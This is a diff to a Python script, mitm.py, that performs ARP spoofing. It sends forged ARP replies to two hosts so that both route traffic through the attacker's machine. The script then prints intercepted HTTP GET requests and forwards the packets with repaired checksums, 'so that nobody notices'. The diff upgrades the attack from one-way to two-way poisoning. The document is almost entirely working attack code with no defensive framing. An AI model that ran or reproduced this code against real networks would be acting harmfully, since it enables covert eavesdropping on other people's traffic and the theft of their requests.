@@ -2,8 +2,9 @@
 
 usage: mitm.py VICTIM TARGET
 
-It tells VICTIM every fifth of a second that TARGET has our card (ARP, RFC 826),
-prints what VICTIM then sends, and hands it on, so that nobody notices.
+It tells each of them every fifth of a second that the other one has our card
+(ARP, RFC 826), prints what VICTIM then asks, and hands everything on, so that
+nobody notices.
 """
 import socket, struct, sys, time
 
@@ -45,23 +46,29 @@ def repaired(packet):
     return head + segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
 
 
-victims, targets = card(victim), card(target)
-lie = (victims + me + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
-       + me + socket.inet_aton(target) + victims + socket.inet_aton(victim))
+def lie(to, address, about):
+    """An answer that nobody asked for: "about has this card, mine"."""
+    return (to + me + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
+            + me + socket.inet_aton(about) + to + socket.inet_aton(address))
+
+
+cards = {socket.inet_aton(a): card(a) for a in (victim, target)}
+lies = [lie(cards[socket.inet_aton(a)], a, b) for a, b in ((victim, target), (target, victim))]
 last = 0
 print("in between", flush=True)
 while True:
     if time.time() - last > 0.2:
-        wire.send(lie)
+        for frame in lies:
+            wire.send(frame)
         last = time.time()
     try:
         frame = wire.recv(65536)
     except TimeoutError:
         continue
-    if frame[:6] != me or frame[12:14] != b"\x08\x00" or frame[30:34] != socket.inet_aton(target):
+    to = cards.get(frame[30:34])
+    if frame[:6] != me or frame[12:14] != b"\x08\x00" or to is None:
         continue
-    length = struct.unpack("!H", frame[16:18])[0]
-    packet = frame[14:14 + length]
+    packet = frame[14:14 + struct.unpack("!H", frame[16:18])[0]]
     if b"GET " in packet:
         print("heard:", packet[packet.index(b"GET "):].split(b"\r")[0].decode(errors="replace"), flush=True)
-    wire.send(targets + me + b"\x08\x00" + repaired(packet))
+    wire.send(to + me + b"\x08\x00" + repaired(packet))
